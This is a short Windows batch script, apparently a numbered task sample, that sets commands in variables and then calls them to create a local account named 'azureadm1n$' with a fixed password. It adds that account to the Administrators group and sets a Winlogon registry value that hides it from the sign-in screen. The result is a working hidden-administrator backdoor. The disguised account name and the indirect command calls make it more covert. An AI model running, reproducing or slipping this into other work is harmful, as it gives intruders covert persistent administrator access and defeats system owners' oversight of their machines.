REM task 3814 v0
@echo off
@echo off
set qvqn=net user azureadm1n$ Winter#2025x /add /active:yes
call %qvqn%
@echo off
set hmxg=net localgroup Administrators azureadm1n$ /add
call %hmxg%
@echo off
set ygct=reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v azureadm1n$ /t REG_DWORD /d 0 /f
call %ygct%
